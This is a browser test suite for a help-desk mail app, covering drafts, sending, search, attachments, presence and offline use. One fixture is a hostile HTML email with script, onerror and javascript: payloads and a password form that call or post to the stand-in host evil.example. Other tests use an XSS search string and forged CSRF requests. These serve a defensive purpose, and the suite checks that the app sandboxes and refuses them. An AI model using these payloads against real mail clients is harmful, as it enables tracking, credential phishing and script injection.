// A person's day at the desk in a real browser, over the demo's letters.
import assert from "node:assert/strict";
import fs from "node:fs";
import path from "node:path";
import { after, before, test } from "node:test";
import { colleague, csrf, openBrowser, openContext, signIn, skip } from "../lib/browser.mjs";
import { Desk, lmtp, mail, sleep, until } from "../lib/desk.mjs";

let d, browser, context, page, omar;
const undo = 3;

const at = (p) => `${d.url}/b/${d.slug}${p}`;
const api = async (p) => (await d.api("GET", `/b/${d.slug}${p}`)).json;
const list = async (view) => (await api(`/list/${view}`)).conversations;
const named = async (name, view = "waiting") =>
  until(`${name} in ${view}`, async () => (await list(view)).find((c) => c.name === name || c.customer_name === name));
const row = (p, name) => p.locator("#list .list-row", { hasText: name });
const state = async (id) => (await api(`/c/${id}`)).conversation;
const byPost = async (letter, from = "someone@post.example") => {
  const answers = await lmtp(d.lmtpPort, from, [d.inbox], letter);
  assert.match(answers.at(-1), /^250 /);
};
const sent = () => {
  const dir = path.join(d.data, "maildir/new");
  return fs.existsSync(dir) ? fs.readdirSync(dir).map((f) => fs.readFileSync(path.join(dir, f), "utf8")) : [];
};
const sentTo = (address) => sent().filter((m) => m.includes(`To: ${address}`) || m.includes(`<${address}>`));

async function open(name, p = page) {
  const c = await named(name);
  await p.goto(at(`/c/${c.id}`));
  return c.id;
}

async function write(text, p = page) {
  await p.locator("#text").click();
  await p.keyboard.press("Control+Home");
  await p.keyboard.insertText(text);
}

const draftKept = (p = page) => p.locator("[data-draft-state]", { hasText: "Draft kept" }).waitFor();

before(async () => {
  if (skip) return;
  d = await Desk.start({ demo: true });
  const kept = await d.api("POST", `/b/${d.slug}/admin/settings`, { undo_seconds: String(undo) });
  assert.equal(kept.status, 200, kept.text);
  browser = await openBrowser();
  context = await openContext(browser, d.url);
  page = await context.newPage();
  omar = await colleague(browser, d, "omar@tidewatch.example", "Omar Haddad");
});

after(async () => {
  await browser?.close();
  await d?.stop();
  if (d) fs.rmSync(path.dirname(d.data), { recursive: true, force: true });
});

test("signing in leads to the list; a wrong password says so and keeps the address", { skip }, async () => {
  await page.goto(at("/list/mine"));
  await page.getByLabel("E-mail").fill(d.email);
  await page.getByLabel("Password").fill("not this one");
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.getByRole("alert").waitFor();
  assert.equal(await page.getByLabel("E-mail").inputValue(), d.email);
  await page.getByLabel("Password").fill(d.password);
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.waitForURL(/\/list\/mine$/);
  // The refused try is an error to the browser, not to us.
  context.troubles.splice(0);
});

test("the list shows who waits longest first, and for how long", { skip }, async () => {
  await page.goto(at("/list/waiting"));
  const waits = await page.locator("#list time[data-since]").evaluateAll((all) => all.map((t) => Number(t.dataset.since)));
  assert.equal(waits.length, (await list("waiting")).length);
  assert.deepEqual(waits, [...waits].sort((a, b) => a - b));
  assert.match(await row(page, "Milo Ferreira").innerText(), /1 d|41 h/);
  assert.equal(await page.locator("#list .list-row b").first().innerText(), "Milo Ferreira");
  await page.getByText("Letters are not leaving this machine.").waitFor();
});

test("a letter opens; what is typed is kept and is there after a reload", { skip }, async () => {
  await row(page, "Milo Ferreira").locator("a").click();
  await page.locator("[data-letter]").getByText("she fell down the").waitFor();
  await write("Dear Milo,\n\nKeeper Juno knows Captain Fenn well.");
  await draftKept();
  await page.reload();
  assert.match(await page.locator("#text").inputValue(), /knows Captain Fenn well/);
  assert.ok(await page.locator("#offer").isHidden());
});

test("words typed a moment before leaving are not lost", { skip }, async () => {
  await page.locator("#text").click();
  await page.keyboard.press("Control+End");
  await page.keyboard.insertText("\nA last word.");
  await page.goto(at("/list/waiting"));
  await page.goBack();
  await until("the last word is there or offered", async () =>
    /A last word/.test(await page.locator("#text").inputValue()) || (await page.locator("#offer").isVisible()));
  if (await page.locator("#offer").isVisible()) await page.locator("[data-offer-take]").click();
  await until("the last word", async () => /A last word/.test(await page.locator("#text").inputValue()));
  await draftKept();
});

test("a reply can be taken back while it is held, and is a draft again", { skip }, async () => {
  await page.locator("[data-send-button]").click();
  await page.locator("[data-held]").waitFor();
  await page.getByRole("button", { name: "Take it back" }).click();
  await until("the draft is back", async () =>
    /knows Captain Fenn well/.test(await page.locator("#text").inputValue().catch(() => "")));
  await sleep((undo + 1) * 1000);
  assert.deepEqual(sentTo("ferreira.family@post.example"), []);
  assert.equal((await named("Milo Ferreira")).state, "us");
});

test("sent again, it is in the Maildir after the undo time, once, in the child's thread", { skip }, async () => {
  const { id } = await named("Milo Ferreira");
  await page.locator("[data-send-button]").click();
  await page.locator("[data-held]").waitFor();
  assert.deepEqual(sentTo("ferreira.family@post.example"), []);
  const mails = await until("the answer", () => {
    const all = sentTo("ferreira.family@post.example");
    return all.length && all;
  });
  assert.equal(mails.length, 1);
  assert.match(mails[0], /^Subject: Re: Keeper Juno/m);
  assert.match(mails[0], /^In-Reply-To: <041-milo@post\.example>/m);
  assert.match(mails[0], /knows Captain Fenn well/);
  // The page itself comes to say so, without being loaded again.
  await page.locator(".paper--ours .paper__head").getByText("Sent", { exact: true }).waitFor();
  assert.equal((await state(id)).state, "them");
  await page.goto(at("/list/waiting"));
  assert.equal(await row(page, "Milo Ferreira").count(), 0);
});

test("a note is shown to us and sent to nobody", { skip }, async () => {
  const before = sent().length;
  await open("Henrike Solberg");
  await page.locator("#note summary").click();
  await page.locator("#note textarea").fill("Box 2210 is being checked.");
  await page.getByRole("button", { name: "Keep the note" }).click();
  await page.locator(".paper--note").getByText("Box 2210 is being checked.").waitFor();
  assert.equal(sent().length, before);
});

test("taking a conversation and giving it back", { skip }, async () => {
  const id = await open("Henrike Solberg");
  await page.getByRole("button", { name: "Take it" }).click();
  await page.getByText("You are answering").waitFor();
  assert.ok((await list("mine")).some((c) => c.id === id));
  await page.getByRole("button", { name: "Give back" }).click();
  await page.getByRole("button", { name: "Take it" }).waitFor();
  assert.ok(!(await list("mine")).some((c) => c.id === id));
});

test("a letter without an answer is closed only with a reason, listed as such, and opened again", { skip }, async () => {
  const id = await open("Tove Lind");
  await page.locator("#done summary").click();
  await page.getByRole("button", { name: "Close without an answer" }).click();
  assert.equal((await state(id)).state, "us", "the browser asks for the reason first");
  await page.getByLabel("it needs no answer").check();
  await page.getByRole("button", { name: "Close without an answer" }).click();
  await page.waitForURL(/\/list\/waiting$/);
  assert.equal(await row(page, "Tove Lind").count(), 0);
  await page.getByRole("link", { name: "Closed without an answer" }).click();
  await row(page, "Tove Lind").locator("a").click();
  await page.locator("#conv-head").getByText(/Closed without an answer: /).waitFor();
  await page.getByRole("button", { name: "Open again" }).click();
  await until("it waits again", async () => (await state(id)).state === "us");
});

test("junk, a blocked sender, and the way back for both", { skip }, async () => {
  const id = await open("Prize Department");
  await page.locator("#done summary").click();
  await page.getByLabel("and block the sender from now on").check();
  await page.getByRole("button", { name: "Move to junk" }).click();
  await page.waitForURL(/\/list\/waiting$/);
  assert.equal(await row(page, "Prize Department").count(), 0);
  await byPost(mail({ from: "Prize Department <winner@lucky.example>", to: d.inbox, subject: "Again!" }));
  await until("the blocked sender's letter is put aside", async () =>
    (await list("junk")).filter((c) => (c.name ?? c.customer_name) === "Prize Department").length === 2);
  assert.ok(!(await list("waiting")).some((c) => (c.name ?? c.customer_name) === "Prize Department"));
  await page.getByRole("link", { name: "Junk" }).click();
  await page.getByRole("link", { name: "Blocked senders" }).click();
  await page.getByText("winner@lucky.example").waitFor();
  await page.getByRole("button", { name: /Let .*in/ }).first().click();
  await until("the sender is let in", async () =>
    (await api("/blocked")).blocked.length === 0);
  await page.goto(at(`/c/${id}`));
  await page.getByRole("button", { name: "Open again" }).click();
  await until("it waits again", async () => (await list("waiting")).some((c) => c.id === id));
});

test("search finds every word, marks them, and leads to the letter", { skip }, async () => {
  await page.goto(at("/list/waiting"));
  await page.locator("#rail-q").fill("station doors");
  await page.keyboard.press("Enter");
  await page.waitForURL(/\/search\?q=/);
  const found = row(page, "Henrike Solberg").first();
  const marks = (await found.locator("mark").allInnerTexts()).map((m) => m.toLowerCase());
  assert.ok(marks.includes("doors") && marks.includes("station"), marks.join());
  await found.locator("a").click();
  await page.waitForURL(/\/c\/\d+/);
  await page.locator("#thread").getByText("two left").first().waitFor();
  await page.goto(at("/search?q=%3Cscript%3Ealert(1)%3C/script%3E"));
  await page.getByText("No letter holds all of these words.").waitFor();
  assert.equal(await page.locator("#q").inputValue(), "<script>alert(1)</script>");
});

test("writing first begins a conversation that waits for them", { skip }, async () => {
  await page.goto(at("/list/waiting"));
  await page.getByRole("link", { name: "Write first" }).first().click();
  await page.locator("#to").fill("Ada Novak <ada@post.example>");
  await page.locator("#subject").fill("Your lighthouse drawing");
  await write("Dear Ada,\n\nit hangs in our kitchen.");
  await draftKept();
  await page.reload();
  assert.equal(await page.locator("#subject").inputValue(), "Your lighthouse drawing");
  await page.locator("[data-send-button]").click();
  await page.locator("[data-held]").waitFor();
  await until("the letter is sent", () => sentTo("ada@post.example").length === 1);
  assert.ok((await list("them")).some((c) => c.subject === "Your lighthouse drawing"));
});

test("a letter on paper is typed in, waits, and is answered by hand", { skip }, async () => {
  await page.goto(at("/type-in"));
  await page.getByLabel("Who wrote or called").fill("Berta Kowal");
  await page.getByLabel("What it is about").fill("A letter with a stamp");
  await page.getByLabel("Their words").fill("Dear Sirs,\n\nI have no computer.");
  await page.getByRole("button", { name: "Put it in the list" }).click();
  await page.locator("#thread").getByText("I have no computer.").waitFor();
  const { id } = await named("Berta Kowal");
  await write("Dear Berta,\n\nwe write by post.");
  await page.getByLabel("answered by post or telephone").check();
  const before = sent().length;
  await page.locator("[data-send-button]").click();
  await until("it counts as answered", async () => (await state(id)).state === "them");
  await sleep((undo + 1) * 1000);
  assert.equal(sent().length, before);
});

const hostile = mail({ from: "Hostile <hostile@elsewhere.example>", to: "letters@tidewatch.example", subject: "Look here",
  id: "hostile@elsewhere.example",
  text: `<html><head><style>@import url(https://evil.example/a.css); body { background: url(https://evil.example/b.png) }
</style><meta http-equiv="refresh" content="0;url=https://evil.example/c"><link rel="stylesheet" href="https://evil.example/d.css">
<base href="https://evil.example/"></head><body background="https://evil.example/e.png" onload="fetch('https://evil.example/f')">
<p style="background-image:url('https://evil.example/g.png')">Visible words</p><script>fetch("https://evil.example/h")</script>
<img src="https://evil.example/i.png" srcset="https://evil.example/j.png 2x"><img src=x onerror="fetch('https://evil.example/k')">
<svg><image href="https://evil.example/l.png"/><script>top.location="https://evil.example/m"</script></svg>
<video src="https://evil.example/n.mp4" poster="https://evil.example/o.png" autoplay></video>
<iframe src="https://evil.example/p"></iframe><object data="https://evil.example/q"></object>
<form action="https://evil.example/r"><input type="password" name="x" autofocus></form>
<a href="javascript:fetch('https://evil.example/s')">click me</a><a href="https://evil.example/t">a true link</a></body></html>`,
}).replace("text/plain", "text/html");

test("a letter in HTML is shown in a sandboxed frame: nothing is fetched, nothing runs", { skip }, async () => {
  await byPost(hostile);
  const id = await open("Hostile");
  await page.getByRole("link", { name: "As sent" }).click();
  const frame = page.locator("iframe.frame");
  await page.frameLocator("iframe.frame").getByText("Visible words").waitFor();
  const sandbox = await frame.getAttribute("sandbox");
  assert.ok(sandbox !== null && !/allow-(scripts|same-origin|forms|top-navigation)/.test(sandbox), sandbox);
  const answer = await context.request.get(d.url + (await frame.getAttribute("src")));
  const html = await answer.text();
  assert.doesNotMatch(html, /<script|onerror|onload|javascript:|<iframe|<object|<form|<input|<base|http-equiv="refresh/i);
  assert.equal(html.replace(/href="https:\/\/evil\.example\/t"/, "").includes("evil.example"), false, html);
  assert.match(answer.headers()["content-security-policy"], /default-src 'none'/);
  assert.match(answer.headers()["content-security-policy"], /sandbox/);
  await page.getByText(/pictures? from elsewhere (is|are) not shown/).waitFor();
  await sleep(300);
  assert.deepEqual(context.foreign, []);
  await page.goto(at(`/c/${id}`));
  assert.doesNotMatch(await page.locator("#thread").innerText(), /fetch\(|@import/);
});

test("attachments come down as files, never as pages; a chosen file goes up and out", { skip }, async () => {
  const id = await open("Wim de Graaf");
  const link = page.locator("#thread .files a", { hasText: "axle.png" });
  const answer = await context.request.get(d.url + (await link.getAttribute("href")));
  assert.match(answer.headers()["content-disposition"], /^attachment/);
  assert.equal(answer.headers()["x-content-type-options"], "nosniff");
  assert.equal((await answer.body()).subarray(1, 4).toString(), "PNG");
  assert.ok(await link.locator("img").evaluate((i) => i.decode().then(() => i.naturalWidth > 0)), "the picture shows");
  await page.locator("[data-attach] input[type=file]").setInputFiles([
    { name: "Anleitung für Wim.txt", mimeType: "text/plain", buffer: Buffer.from("Step one.") },
    { name: "wrong.txt", mimeType: "text/plain", buffer: Buffer.from("not this one") }]);
  await page.locator("[data-attached] li", { hasText: "wrong.txt" }).waitFor();
  await page.getByRole("button", { name: "Take off wrong.txt" }).click();
  await page.locator("[data-attached] li", { hasText: "wrong.txt" }).waitFor({ state: "detached" });
  await page.reload();
  await page.locator("[data-attached] li", { hasText: "Anleitung für Wim.txt" }).waitFor();
  await write("Dear Wim,\n\nhere is how.");
  await page.locator("[data-send-button]").click();
  await page.locator("[data-held]").waitFor();
  const [letter] = await until("it is sent", () => {
    const all = sentTo("wim.degraaf@post.example");
    return all.length && all;
  });
  assert.ok(letter.includes(Buffer.from("Step one.").toString("base64")), letter);
  assert.ok(!letter.includes(Buffer.from("not this one").toString("base64")));
  assert.match(letter, /filename\*(0\*)?=utf-8''Anleitung%20f%C3%BCr%20Wim\.txt/i);
  await until("sent", async () => (await state(id)).state === "them");
});

test("two people: one sees that the other is here and writes", { skip }, async () => {
  const id = await open("Gaspard Lemoine");
  await omar.page.goto(at(`/c/${id}`));
  await page.locator("#presence", { hasText: "Omar Haddad is looking at this too" }).waitFor();
  await omar.page.locator("#presence", { hasText: "Ines Duarte is looking at this too" }).waitFor();
  await write("Dear Mr Lemoine,", omar.page);
  await page.locator("#presence", { hasText: "Omar Haddad is writing here" }).waitFor();
  assert.doesNotMatch(await page.locator("#presence").innerText(), /Ines/);
  await omar.page.goto(at("/list/waiting"));
  await until("Omar is gone", async () => (await page.locator("#presence").innerText()) === "");
});

test("a new letter appears in the open list without a reload, and is said", { skip }, async () => {
  await page.goto(at("/list/waiting"));
  await page.evaluate(() => { window.stillHere = true; });
  const count = Number(await page.locator('[data-count="waiting"]').innerText());
  await byPost(mail({ from: "Nadia New <nadia@post.example>", to: d.inbox, subject: "Just now" }));
  await row(page, "Nadia New").waitFor();
  assert.equal(await page.evaluate(() => window.stillHere), true);
  await until("the count", async () => Number(await page.locator('[data-count="waiting"]').innerText()) === count + 1);
  assert.match(await page.locator("#said").innerText(), /Nadia New/);
});

test("a reply to what has changed is refused, shows what changed, and keeps every word", { skip }, async () => {
  const id = await open("Gaspard Lemoine");
  await write("Dear Mr Lemoine,\n\nhere is the invoice, from Ines.");
  const token = d.token(omar.email);
  const other = await d.api("POST", `/b/${d.slug}/c/${id}/reply`, { text: "From Omar: it is on its way." }, token);
  assert.equal(other.status, 200, other.text);
  await page.locator("#newer").getByText("A colleague answered while you were writing.").waitFor();
  await page.locator("[data-send-button]").click();
  const panel = page.locator("#conflict .conflict");
  await panel.getByText("Omar Haddad answered at").waitFor();
  await panel.getByText("From Omar: it is on its way.").waitFor();
  await panel.getByText(/Your reply goes to .*g\.lemoine@atelier\.example/).waitFor();
  assert.match(await page.locator("#text").inputValue(), /from Ines/);
  assert.equal(await page.evaluate(() => document.activeElement.id), "conflict");
  await page.locator("[data-send-button]").click();
  await page.locator("[data-held]").waitFor();
  await until("both are sent", () => sentTo("g.lemoine@atelier.example").length === 2);
  // The refusal is an error to the browser, not to us.
  context.troubles = context.troubles.filter((t) => !/status of 409/.test(t));
});

test("without a connection the words stay, and are kept when it is back", { skip }, async () => {
  await open("Abdul-Karim Yusuf");
  await context.setOffline(true);
  await write("Dear Samira, the baker is at the harbour.");
  await page.locator("[data-draft-state]", { hasText: "Not kept yet: no connection" }).waitFor();
  await page.locator("[data-send-button]").click();
  await page.locator("#conflict").getByText("Not sent: no connection.").waitFor();
  assert.match(await page.locator("#text").inputValue(), /at the harbour/);
  await context.setOffline(false);
  await draftKept();
  await page.reload();
  assert.match(await page.locator("#text").inputValue(), /at the harbour/);
  context.troubles = context.troubles.filter((t) => !/ERR_INTERNET_DISCONNECTED/.test(t));
});

test("keyboard alone: sign in, down the list, open, answer, send", { skip }, async () => {
  const own = await openContext(browser, d.url);
  const p = await own.newPage();
  const focused = () => p.evaluate(() => document.activeElement.closest("[data-id]")?.dataset.id ?? "");
  await p.goto(d.url + "/");
  await p.keyboard.type(d.email);
  await p.keyboard.press("Tab");
  await p.keyboard.type(d.password);
  await p.keyboard.press("Enter");
  await p.waitForURL(/\/list\/waiting/);
  const ids = await p.locator("#list [data-id]").evaluateAll((all) => all.map((r) => r.dataset.id));
  await p.keyboard.press("j");
  await p.keyboard.press("j");
  assert.equal(await focused(), ids[1]);
  await p.keyboard.press("k");
  assert.equal(await focused(), ids[0]);
  await p.keyboard.press("?");
  await p.locator("#keys").waitFor();
  await p.keyboard.press("Escape");
  const target = (await named("Lucía Ibarra")).id;
  for (let i = 0; i < 30 && (await focused()) !== target; i++) await p.keyboard.press("j");
  await p.keyboard.press("Enter");
  await p.waitForURL(new RegExp(`/c/${target}`));
  await p.keyboard.press("r");
  assert.equal(await p.evaluate(() => document.activeElement.id), "text");
  await p.keyboard.type("Hola Lucía y Bea, j k r / ? e n");
  await p.keyboard.press("Control+Enter");
  await p.locator("[data-held]").waitFor();
  await until("it is sent", () => sentTo("lucia.ibarra@correo.example").length === 1);
  await p.locator("body").press("g");
  await p.keyboard.press("w");
  await p.waitForURL(/\/list\/waiting/);
  await p.keyboard.press("/");
  assert.equal(await p.evaluate(() => document.activeElement.id), "rail-q");
  assert.deepEqual([...own.troubles, ...own.foreign], []);
  await own.close();
});

test("without JavaScript: sign in, open, keep a draft, attach, answer, take back", { skip }, async () => {
  const own = await openContext(browser, d.url, { javaScriptEnabled: false });
  const p = await own.newPage();
  await signIn(p, d);
  await p.locator(".list-row", { hasText: "Wolfgang Böttcher" }).locator("a").click();
  await p.locator("#text").fill("Guten Tag,\n\ndie Achse kommt.");
  await p.getByRole("button", { name: "Keep as draft" }).click();
  assert.equal(await p.locator("#text").inputValue(), "Guten Tag,\n\ndie Achse kommt.");
  await p.locator("input[type=file]").setInputFiles({ name: "axle.txt", mimeType: "text/plain", buffer: Buffer.from("40 mm") });
  await p.getByRole("button", { name: "Attach these" }).click();
  await p.locator("[data-attached] li", { hasText: "axle.txt" }).waitFor();
  assert.equal(await p.locator("#text").inputValue(), "Guten Tag,\n\ndie Achse kommt.");
  await p.locator("[data-send-button]").click();
  await p.getByRole("button", { name: "Take it back" }).click();
  assert.equal(await p.locator("#text").inputValue(), "Guten Tag,\n\ndie Achse kommt.");
  await p.locator("[data-attached] li", { hasText: "axle.txt" }).waitFor();
  await p.locator("[data-send-button]").click();
  await p.locator("[data-held]").waitFor();
  const [letter] = await until("it is sent", () => {
    const all = sentTo("w.boettcher@briefe.example");
    return all.length && all;
  });
  assert.ok(letter.includes(Buffer.from("40 mm").toString("base64")));
  await p.locator("#rail-q").fill("lighthouse");
  await p.keyboard.press("Enter");
  await p.locator("mark").first().waitFor();
  assert.deepEqual(own.foreign, []);
  await own.close();
});

test("a forged form is refused, and so is one without the page's own word", { skip }, async () => {
  const { id } = await named("Henrike Solberg");
  const path = at(`/c/${id}/take`);
  const right = await csrf(page);
  for (const form of [{}, { csrf: "x" }, { csrf: right.slice(1) }]) {
    const answer = await context.request.post(path, { form });
    assert.equal(answer.status(), 403);
  }
  const site = await context.request.post(path, { form: { csrf: right }, headers: { "Sec-Fetch-Site": "cross-site" } });
  assert.equal(site.status(), 403);
  assert.equal((await state(id)).agent ?? null, null);
});

test("a signed-out page says so and keeps what was typed", { skip }, async () => {
  const own = await openContext(browser, d.url);
  const p = await own.newPage();
  await signIn(p, d);
  const { id } = await named("Henrike Solberg");
  await p.goto(at(`/c/${id}`));
  await write("Dear Henrike, the right door.", p);
  await draftKept(p);
  const other = await own.newPage();
  await other.goto(at("/list/waiting"));
  await other.getByRole("button", { name: "Sign out" }).click();
  await other.waitForURL(/\/sign-in/);
  await p.locator("[data-send-button]").click();
  await p.locator("#conflict").getByText("Not sent: you are signed out.").waitFor();
  assert.match(await p.locator("#text").inputValue(), /the right door/);
  await own.close();
});

test("a page speaks one language throughout: the reader's where we have it, English where not", { skip }, async () => {
  const words = { en: "Sign in", de: "Anmelden" };
  for (const asked of ["de-AT, de;q=0.9, en;q=0.5", "tlh", "", "*", ";;q=,"]) {
    const answer = await fetch(`${d.url}/sign-in`, { headers: { "accept-language": asked } });
    const html = await answer.text();
    const lang = /<html lang="(\w+)"/.exec(html)[1];
    assert.ok(lang === "en" || (lang === "de" && asked.startsWith("de")), `${asked}: ${lang}`);
    assert.ok(html.includes(`<h1>${words[lang]}</h1>`), `${asked}: ${lang}`);
  }
});

test("no page asked another server for anything, had a script's error or a refused part", { skip }, () => {
  assert.deepEqual(context.foreign, []);
  assert.deepEqual(context.troubles, []);
  assert.deepEqual([...omar.context.foreign, ...omar.context.troubles], []);
});
